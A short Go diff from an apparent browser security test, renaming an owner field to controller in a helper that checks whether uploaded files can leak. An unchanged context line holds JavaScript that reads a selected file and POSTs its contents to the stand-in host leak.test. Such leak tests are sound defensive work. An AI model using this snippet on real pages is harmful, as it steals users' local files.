@@ -216,7 +216,7 @@ func (b *Browser) unguarded(t *testing.T, s *spy, files []string) {
 		}
 		var text string
 		read := fmt.Sprintf(`document.querySelector("input").files[0].text().then(async (text) => { await fetch("http://leak.test/leak?%s", {method: "POST", mode: "no-cors", body: text}); return text }, String)`, url.QueryEscape(file))
-		if err := b.mux.owner.evaluate(ctx, tab, read, &text); err != nil {
+		if err := b.mux.controller.evaluate(ctx, tab, read, &text); err != nil {
 			t.Logf("%s is not read: %v", file, err)
 		}
 	}
